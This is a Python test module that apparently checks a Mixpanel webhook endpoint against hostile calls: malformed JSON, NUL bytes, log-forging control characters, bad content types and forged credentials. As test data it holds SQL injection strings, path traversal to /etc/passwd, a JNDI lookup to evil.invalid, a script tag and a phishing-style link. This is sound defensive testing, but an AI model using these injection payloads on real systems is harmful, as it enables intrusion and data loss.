"""Hostile calls to the Mixpanel webhook over real HTTP (GitHub issue #9).

Every hostile call is either refused with a 4xx in Mixpanel's reply shape (a 5xx would make
Mixpanel retry it forever) or stored as plain data. Either way: no traceback in the logs, no
forged log line, no member data or secret in a reply, and a refused call leaves the staged
state exactly as it was, so the next valid page completes its session as if nothing happened.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
import requests
import sqlalchemy as sa

from include.webhooks.payload import MAX_DEPTH, MAX_PAGES
from tests.conftest import LogRecorder
from tests.fakes.mixpanel_webhook_sender import MixpanelWebhookSender, Session, members
from tests.test_mixpanel_webhook import (
    LOGIN,
    MAX_BODY,
    PASSWORD,
    SEGMENT,
    assert_no_secrets,
    audience,
    backend,
    segment,
    sender,
    staged,
    webhook_url,
    write_segment,
)

# Fixtures of the webhook tests, reused: pytest finds them by their names in this module.
REUSED_FIXTURES = (backend, segment, sender, webhook_url)

JSON = "application/json"
FORGED = "FORGED segment mp_push: mixpanel members session s page 1/1: stored"
UNAUTHORIZED = {
    "action": None,
    "status": "failure",
    "error": {"message": "wrong or missing credentials", "code": 401},
}
WWW_AUTHENTICATE = 'Basic realm="connector-segments", charset="UTF-8"'


# -- building hostile bodies from a valid page --------------------------------------------------

Body = bytes | dict | list
Build = Callable[[dict], Body]


def put(*edits: tuple[str, Any]) -> Build:
    """The page with each (dotted path, value) set; a missing last key is added."""

    def build(page: dict) -> dict:
        page = copy.deepcopy(page)
        for path, value in edits:
            *parents, last = [int(p) if p.isdigit() else p for p in path.split(".")]
            target = page
            for key in parents:
                target = target[key]
            target[last] = value
        return page

    return build


def splice(path: str, literal: str) -> Build:
    """The page with raw JSON text (NaN, 1e400, a duplicate key...) at dotted `path`."""
    marker = "__SPLICED__"
    return lambda page: encode(put((path, marker))(page)).replace(
        json.dumps(marker).encode(), literal.encode()
    )


def raw(data: bytes) -> Build:
    return lambda _page: data


def fresh(*edits: tuple[str, Any], **page_info: int) -> Build:
    """A first page of a new session, so that no earlier page can refuse it and the session
    row (total_pages, cohort id) is written: this page_info and these edits."""
    page_info = page_info or {"total_pages": 2, "page_count": 1}
    return put(
        ("parameters.mixpanel_session_id", "fresh-session"),
        ("parameters.page_info", page_info),
        *edits,
    )


def nested(depth: int, leaf: Any = 1) -> Any:
    for _ in range(depth):
        leaf = [leaf]
    return leaf


def encode(body: Body) -> bytes:
    return body if isinstance(body, bytes) else json.dumps(body).encode()


@dataclass(frozen=True)
class Hostile:
    id: str
    build: Build  # from a valid page 2 of the started export
    says: str  # the location and rule the reply must name
    status: int = 400
    action: str | None = "members"  # echoed when the body is an object with a valid action
    content_type: str | None = JSON
    postgres: bool = False  # used to fail in the store: run against PostgreSQL too


DEEP = 100_000
M0 = "parameters.members.0"  # where most hostile values go
CORPUS = [
    # Nesting: Python's json recursed until RecursionError, a 500 and a traceback per call.
    Hostile(
        "100k-deep-arrays",
        raw(b'{"action": "members", "parameters": ' + b"[" * DEEP + b"]" * DEEP + b"}"),
        action=None,
        says=f"nested deeper than {MAX_DEPTH} levels",
    ),
    Hostile(
        "50k-deep-objects",  # 100k would pass the test server's body limit
        raw(b'{"a": ' * (DEEP // 2) + b"1" + b"}" * (DEEP // 2)),
        action=None,
        says=f"nested deeper than {MAX_DEPTH} levels",
    ),
    Hostile(
        "deep-member-property",
        put((f"{M0}.plan", nested(MAX_DEPTH))),
        says=f"{M0}.plan" + ".0" * (MAX_DEPTH - 4) + f": JSON nested deeper than {MAX_DEPTH}",
    ),
    # page_info past the database's INTEGER: was a DataError/OverflowError, a 5xx.
    *(
        Hostile(
            f"total-pages-{name}",
            fresh(total_pages=value, page_count=1),
            says=f"page_info.total_pages: Input should be less than or equal to {MAX_PAGES}",
            postgres=True,
        )
        for name, value in [
            ("max-plus-1", MAX_PAGES + 1),
            ("2^31", 2**31),
            ("2^63", 2**63),
            ("10^30", 10**30),
        ]
    ),
    Hostile(
        "page-count-2^31",
        fresh(total_pages=2**31, page_count=2**31),
        says="parameters.page_info.page_count: Input should be less than or equal to",
        postgres=True,
    ),
    Hostile(
        "integer-of-5000-digits",
        splice("parameters.page_info.total_pages", "9" * 5000),
        action=None,
        says="too many digits",
    ),
    # NUL: PostgreSQL text cannot hold it (psycopg2 raised ValueError, logged as "cannot open
    # the segment store"); SQLite stored it and cut strings short on the way back.
    Hostile(
        "nul-in-distinct-id",
        put((f"{M0}.mixpanel_distinct_id", "mp-1\x00x")),
        says=f"{M0}.mixpanel_distinct_id: contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-property-value",
        put((f"{M0}.email", "person1\x00@example.com")),
        says=f"{M0}.email: contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-property-name",
        put((f"{M0}.e\x00mail", "x")),
        says=f"{M0}: a key contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-nested-property",
        put((f"{M0}.plan", {"tiers": ["gold", "si\x00lver"]})),
        says=f"{M0}.plan.tiers.1: contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-session-id",
        put(("parameters.mixpanel_session_id", "s\x00")),
        says="parameters.mixpanel_session_id: contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-cohort-id",
        fresh(("parameters.mixpanel_cohort_id", "77\x00")),
        says="parameters.mixpanel_cohort_id: contains a NUL character",
        postgres=True,
    ),
    Hostile(
        "nul-in-unstored-field",
        put(("parameters.mixpanel_cohort_name", "Push\x00")),
        says="parameters.mixpanel_cohort_name: contains a NUL character",
    ),
    # Lone surrogates: valid JSON escapes, but no UTF-8 for the database driver.
    Hostile(
        "lone-surrogate-in-distinct-id",
        put((f"{M0}.mixpanel_distinct_id", "mp-\ud800")),
        says=f"{M0}.mixpanel_distinct_id: contains a lone surrogate",
        postgres=True,
    ),
    Hostile(
        "lone-surrogate-in-property",
        put((f"{M0}.last_name", "\udfff")),
        says=f"{M0}.last_name: contains a lone surrogate",
        postgres=True,
    ),
    # Non-finite numbers: PostgreSQL's json refuses NaN/Infinity (a 503 before).
    *(
        Hostile(
            f"{name}-property",
            splice(f"{M0}.score", literal),
            says=f"{M0}.score: numbers must be finite",
            postgres=True,
        )
        for name, literal in [
            ("nan", "NaN"),
            ("infinity", "Infinity"),
            ("minus-infinity", "-Infinity"),
            ("1e400", "1e400"),
            ("minus-1e400", "-1e400"),
        ]
    ),
    Hostile(
        "nan-in-nested-list",
        splice(f"{M0}.plan", '{"scores": [1, NaN]}'),
        says=f"{M0}.plan.scores.1: numbers must be finite",
        postgres=True,
    ),
    Hostile(
        "infinity-in-unstored-field",
        splice("parameters.mixpanel_project_id", "Infinity"),
        says="parameters.mixpanel_project_id: numbers must be finite",
    ),
    # The session id is logged: control and line-break characters would forge log lines.
    *(
        Hostile(
            f"{name}-in-session-id",
            put(("parameters.mixpanel_session_id", f"s{char}{FORGED}")),
            says="parameters.mixpanel_session_id: must contain printable characters only",
        )
        for name, char in [
            ("newline", "\n"),
            ("carriage-return", "\r"),
            ("tab", "\t"),
            ("escape", "\x1b[2K\r"),
            ("delete", "\x7f"),
            ("line-separator", "\u2028"),
            ("bidi-override", "\u202e"),
        ]
    ),
    # Not an object, not JSON, not UTF-8.
    Hostile("empty-body", raw(b""), action=None, says="body: invalid JSON"),
    Hostile("blank-body", raw(b" \r\n\t"), action=None, says="body: invalid JSON"),
    Hostile("not-json", raw(b"{not json"), action=None, says="body: invalid JSON"),
    Hostile(
        "trailing-data",
        lambda page: encode(page) + b" {}",
        action=None,
        says="body: invalid JSON: Extra data",
    ),
    *(
        Hostile(f"json-{name}", raw(data), action=None, says="body: Input should be")
        for name, data in [
            ("array", b"[]"),
            ("array-of-calls", b'[{"action": "members"}]'),
            ("string", b'"members"'),
            ("number", b"1"),
            ("null", b"null"),
            ("true", b"true"),
        ]
    ),
    Hostile(
        "invalid-utf8",
        lambda page: encode(page).replace(b"First3", b"First\xff"),
        action=None,
        says="body: not valid UTF-8",
    ),
    Hostile(
        "overlong-utf8",
        lambda page: encode(page).replace(b"First3", b"First\xc0\xaf"),
        action=None,
        says="body: not valid UTF-8",
    ),
    Hostile(
        "utf16-body",
        lambda page: json.dumps(page).encode("utf-16"),
        action=None,
        says="body: not valid UTF-8",
    ),
    Hostile(
        "utf8-bom", lambda page: b"\xef\xbb\xbf" + encode(page), action=None, says="invalid JSON"
    ),
    # Duplicate keys: parsers disagree on which one counts, so none does.
    Hostile(
        "duplicate-action",
        lambda page: encode(page).replace(
            b'"action": "members"', b'"action": "members", "action": "remove_members"'
        ),
        action=None,
        says="body: an object names the same key twice",
    ),
    Hostile(
        "duplicate-distinct-id",
        splice(f"{M0}.mixpanel_distinct_id", '"mp-1", "mixpanel_distinct_id": "mp-999"'),
        says=f"{M0}: an object names the same key twice",
    ),
    Hostile(
        "duplicate-page-count",
        splice("parameters.page_info.page_count", '1, "page_count": 2'),
        says="parameters.page_info: an object names the same key twice",
    ),
    # Huge arrays.
    Hostile(
        "1001-members",
        put(("parameters.members", [{"mixpanel_distinct_id": f"x{i}"} for i in range(1001)])),
        says="parameters.members: List should have at most 1000 items",
    ),
    Hostile(
        "50k-integers-as-members",
        put(("parameters.members", list(range(50_000)))),
        says="parameters.members: List should have at most 1000 items",
    ),
    Hostile(
        "1000-integers-as-members",
        put(("parameters.members", list(range(1000)))),
        says="parameters.members.4: Input should be a valid dictionary or instance of Member; "
        "... and 995 more",
    ),
    # Content-Type: a cross-site form can post text/plain, urlencoded or multipart.
    *(
        Hostile(
            f"content-type-{name}",
            lambda page: page,
            status=415,
            action=None,
            says="Content-Type must be application/json",
            content_type=value,
        )
        for name, value in [
            ("text-plain", "text/plain"),
            ("form", "application/x-www-form-urlencoded"),
            ("multipart", "multipart/form-data; boundary=x"),
            ("missing", None),
            ("empty", ""),
            ("text-json", "text/json"),
            ("json-lookalike", "application/jsonx"),
            ("json-suffix", "application/merge-patch+json"),
            ("latin1-charset", "application/json; charset=iso-8859-1"),
        ]
    ),
    Hostile(
        "content-type-checked-before-the-body",
        raw(b"[" * DEEP),
        status=415,
        action=None,
        says="Content-Type must be application/json",
        content_type="text/plain",
    ),
]
PARAMS = [pytest.param(case, "sqlite", id=f"{case.id}-sqlite") for case in CORPUS] + [
    pytest.param(case, "postgres", id=f"{case.id}-postgres", marks=pytest.mark.postgres)
    for case in CORPUS
    if case.postgres
]


# -- helpers ------------------------------------------------------------------------------------


@pytest.fixture
def started(backend: str, sender: MixpanelWebhookSender) -> Session:
    """Page 1 of a 2-page export stored: the state a refused call must leave as it was."""
    sender.page_size = 2
    session = sender.session("members", members(range(1, 5)))
    sender.deliver(session, order=[1])
    return session


def post(
    sender: MixpanelWebhookSender,
    body: Body,
    content_type: str | None = JSON,
    url: str | None = None,
    **kwargs: Any,
) -> requests.Response:
    """One raw delivery (no retry: a 5xx must show), recorded for the secrets check."""
    headers = kwargs.pop("headers", {})
    if content_type is not None:
        headers = {"Content-Type": content_type, **headers}
    kwargs.setdefault("auth", sender.auth)
    response = requests.post(
        url or sender.url, data=encode(body), headers=headers, timeout=60, **kwargs
    )
    sender.responses.append(response)
    return response


def assert_failure(response: requests.Response, status: int, action: str | None, says: str):
    """Mixpanel's reply shape, with the status and a message naming the location or rule."""
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == JSON
    body = response.json()
    assert body == {
        "action": action,
        "status": "failure",
        "error": {"message": body["error"]["message"], "code": status},
    }
    assert says in body["error"]["message"]


def assert_clean_logs(logs: LogRecorder) -> None:
    """No traceback, no forged line, and no server fault blamed on the segment store."""
    assert "Traceback" not in logs.text
    assert not [line for line in logs.text.splitlines() if line.startswith("FORGED")]
    assert "cannot open the segment store" not in logs.text


def member_rows() -> list[tuple[int, str, dict]]:
    from include.orchestration.connections import netmera_database
    from include.store.webhook_tables import webhook_members as m

    with netmera_database().engine.connect() as conn:
        rows = conn.execute(
            sa.select(m.c.position, m.c.distinct_id, m.c.properties).order_by(m.c.position)
        ).all()
    return [tuple(row) for row in rows]


# -- the corpus ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("case", "backend"), PARAMS, indirect=["backend"])
def test_hostile_call_is_refused_with_a_4xx_and_changes_nothing(
    case: Hostile, backend, started: Session, sender, logs
):
    before = staged()
    response = post(sender, case.build(started.page(2)), case.content_type)
    assert_failure(response, case.status, case.action, case.says)
    assert staged() == before

    sender.deliver(started, order=[2])  # the valid page still completes the export normally
    after = staged()
    [session] = after["sessions"]
    assert (session["pages_received"], after["member_rows"]) == (2, 4)
    assert session["completed_at"] is not None
    assert "session complete" in logs.text
    assert "webhook call refused" in logs.text  # the refusal is in the server log
    assert_clean_logs(logs)
    assert_no_secrets(logs, sender)
    assert all(r.status_code < 500 for r in sender.responses)


# Members as a hostile source could export them: data, stored and read back as sent.
FULL_WIDTH = str.maketrans({chr(c): chr(c + 0xFEE0) for c in range(0x21, 0x7F)})
STRANGE = [
    {
        "mixpanel_distinct_id": "x" * 10_240,
        "email": "e" * 10_240 + "@example.org",
        "k" * 10_240: "a 10 KB key",
    },
    {
        "mixpanel_distinct_id": "p\u0435rson1@ex\u0430mple.org",  # Cyrillic e and a
        "email": "person1@example.org".translate(FULL_WIDTH),
        "first_name": "Zoë e\u0301 \u05e9\u05dc\u05d5\u05dd 🙂 İı",
        "şehir": "İstanbul",
    },
    {
        "mixpanel_distinct_id": "'; DROP TABLE cs_webhook_members; --",
        "email": '" OR 1=1 --',
        "'; DELETE FROM cs_webhook_pages; --": "Robert'); DROP TABLE Students;--",
        "path": "../../../../etc/passwd",
        "windows": "C:\\Windows\\System32\\..\\",
        "encoded": "%2e%2e%2f%00",
        "template": "${jndi:ldap://evil.invalid/a}{{7*7}}<script>alert(1)</script>",
    },
    {"mixpanel_distinct_id": f"line1\n{FORGED}\r\n\t", "note": f"multi\n{FORGED}"},
    {
        "mixpanel_distinct_id": "mp-numbers",
        "numbers": list(range(50_000)),
        "nested": nested(MAX_DEPTH - 5, {"deepest": True}),  # 32 levels in all: the most
        "big": 10**30,
        "tiny": 5e-324,
        "negative_zero": -0.0,
        "nothing": None,
    },
]


def test_hostile_data_in_members_is_stored_as_data_and_counted(backend, sender, logs):
    export = sender.export(STRANGE)
    assert member_rows() == [
        (
            i,
            person["mixpanel_distinct_id"],
            {k: v for k, v in person.items() if k != "mixpanel_distinct_id"},
        )
        for i, person in enumerate(STRANGE)
    ]
    [page] = staged()["pages"]
    assert page.member_count == len(STRANGE)
    assert f"page 1/1: stored ({len(STRANGE)} members; 1/1 pages); session complete" in logs.text
    rows = audience()  # what the segment's extract reads
    assert sorted(r["mixpanel_distinct_id"] for r in rows) == sorted(
        p["mixpanel_distinct_id"] for p in STRANGE
    )
    sender.deliver(export)  # a repeat is still a duplicate, not a second copy
    assert len(member_rows()) == len(STRANGE)
    assert_clean_logs(logs)
    assert_no_secrets(logs, sender)


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_an_unusual_session_id_is_stored_as_sent_but_logged_and_noted_as_a_digest(
    backend, sender, logs
):
    """Printable, so accepted; but the run note is Markdown and logs are grepped: neither gets
    a link, markup or a 255-character id of the caller's choosing."""
    odd = "[renew](https://evil.invalid/login) `code` <b>x</b> " + "é" * 150
    sender.deliver(sender.session("members", members([1]), session_id=odd))
    [session] = staged()["sessions"]
    assert session["session_id"] == odd
    label = "sha256:" + hashlib.sha256(odd.encode()).hexdigest()[:16]
    assert f"session {label} page 1/1: stored" in logs.text
    assert f"members session {label} complete (1 pages)" in logs.text  # the note's text
    assert "evil.invalid" not in logs.text
    assert_clean_logs(logs)


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "Application/JSON",
        "application/json; charset=utf-8",
        'application/json;charset="UTF-8"',
        "application/json ; charset=utf8 ; q=1",
    ],
)
def test_json_content_types_with_parameters_are_accepted(content_type, backend, started, sender):
    response = post(sender, started.page(2), content_type)
    assert response.status_code == 200, response.text
    assert response.json() == {"action": "members", "status": "success"}
    assert staged()["sessions"][0]["completed_at"] is not None


# -- authentication -----------------------------------------------------------------------------


def test_every_unauthenticated_call_gets_the_same_401_and_only_the_log_says_why(
    workspace, segment, sender, webhook_url, monkeypatch, logs
):
    write_segment(workspace, "mp_noconn", {"type": "mixpanel_webhook", "conn_id": "mp_absent_conn"})
    write_segment(workspace, "mp_nologin", {"type": "mixpanel_webhook", "conn_id": "mp_half_conn"})
    monkeypatch.setenv(
        "AIRFLOW_CONN_MP_HALF_CONN", json.dumps({"conn_type": "http", "password": PASSWORD})
    )
    (workspace / "segments" / "mp_broken.yaml").write_text("id: mp_broken\nsource: [unclosed\n")
    page = sender.session("members", members([1])).page(1)
    good = (LOGIN, PASSWORD)
    basic = lambda text: {"Authorization": "Basic " + base64.b64encode(text).decode()}  # noqa: E731
    calls: dict[str, tuple[str, tuple | None, dict]] = {
        "unknown segment": ("nobody", good, {}),
        "invalid segment id": ("Bad-Id", good, {}),
        "path in the id": (quote("../segments/mp_push", safe=""), good, {}),
        "nested path": ("mp_push/extra", good, {}),
        "no id": ("", good, {}),
        "trailing newline": (quote("mp_push\n"), good, {}),
        "forged line in the id": (quote(f"mp_push\n{FORGED}"), good, {}),
        "SQL in the id": (quote("mp_push'; DROP TABLE cs_webhook_pages;--"), good, {}),
        "homoglyph id": (quote("m\u0440_push"), good, {}),  # Cyrillic er
        "not a webhook segment": ("from_file", good, {}),
        "invalid YAML": ("mp_broken", good, {}),
        "missing connection": ("mp_noconn", good, {}),
        "incomplete connection": ("mp_nologin", ("", PASSWORD), {}),
        "wrong password": (SEGMENT, (LOGIN, "wrong"), {}),
        "wrong login": (SEGMENT, ("someone", PASSWORD), {}),
        "no credentials": (SEGMENT, None, {}),
        "another scheme": (SEGMENT, None, {"Authorization": "Bearer abc"}),
        "not base64": (SEGMENT, None, {"Authorization": "Basic %%%"}),
        "no colon": (SEGMENT, None, basic(b"no-colon")),
        "non-ASCII header": (SEGMENT, None, {"Authorization": "Basic \xfc\xff"}),
        "newline in the login": (SEGMENT, None, basic(f"{LOGIN}\n{FORGED}:{PASSWORD}".encode())),
        "long header": (SEGMENT, None, {"Authorization": "Basic " + "A" * 8000}),
        "body not looked at": ("nobody", good, {"Content-Type": "text/plain"}),
    }
    replies = {
        cause: post(sender, page, url=f"{webhook_url}/{target}", auth=auth, headers=headers)
        for cause, (target, auth, headers) in calls.items()
    }
    replies["oversize, unknown segment"] = post(
        sender, b"[" * (MAX_BODY + 1024), url=f"{webhook_url}/nobody", auth=good
    )
    seen = {(r.status_code, r.content, r.headers.get("WWW-Authenticate")) for r in replies.values()}
    assert len(seen) == 1, [(c, r.status_code) for c, r in replies.items() if r.status_code != 401]
    [(status, content, challenge)] = seen
    assert (status, json.loads(content), challenge) == (401, UNAUTHORIZED, WWW_AUTHENTICATE)

    # The server log names the segment and the real cause (never a secret).
    for expected in [
        "segment nobody: webhook call refused: no such segment",
        "segment 'Bad-Id': webhook call refused: not a valid segment id",
        "segment 'mp_push\\n': webhook call refused: not a valid segment id",
        "segment from_file: webhook call refused: not a mixpanel_webhook segment",
        "segment mp_broken: webhook call refused: its YAML is invalid",
        "'mp_absent_conn' (source.conn_id) is not defined",
        "'mp_half_conn' needs both a login and a password",
        "segment mp_push: webhook call refused: wrong or missing credentials",
    ]:
        assert expected in logs.text
    assert_clean_logs(logs)
    assert_no_secrets(logs, sender)
    assert staged()["sessions"] == []


# -- server faults after authentication ---------------------------------------------------------


@pytest.mark.parametrize(
    ("netmera_db", "status", "logged"),
    [
        (None, 500, "cannot open the segment store: Airflow Connection 'netmera_db'"),
        ({"conn_type": "http", "host": "db"}, 500, "cannot open the segment store: connection"),
        (
            {"conn_type": "sqlite", "host": "/nonexistent/folder/netmera.db"},
            503,
            "cannot store the page: OperationalError",
        ),
    ],
    ids=["netmera-db-missing", "netmera-db-unsupported", "store-unreachable"],
)
def test_server_faults_answer_a_generic_5xx_and_log_the_cause(
    netmera_db, status, logged, sender, monkeypatch, logs
):
    if netmera_db is None:
        monkeypatch.delenv("AIRFLOW_CONN_NETMERA_DB")
    else:
        monkeypatch.setenv("AIRFLOW_CONN_NETMERA_DB", json.dumps(netmera_db))
    response = post(sender, sender.session("members", members([1])).page(1))
    assert response.status_code == status
    message = response.json()["error"]["message"]
    assert message in (
        "internal error; retry later",
        "the segment store is unavailable; retry later",
    )
    for detail in ("netmera_db", "sqlite", "http", "nonexistent", "conn"):
        assert detail not in message
    assert f"segment {SEGMENT}: {logged}" in logs.text
    assert "Traceback" not in logs.text
    assert_no_secrets(logs, sender)
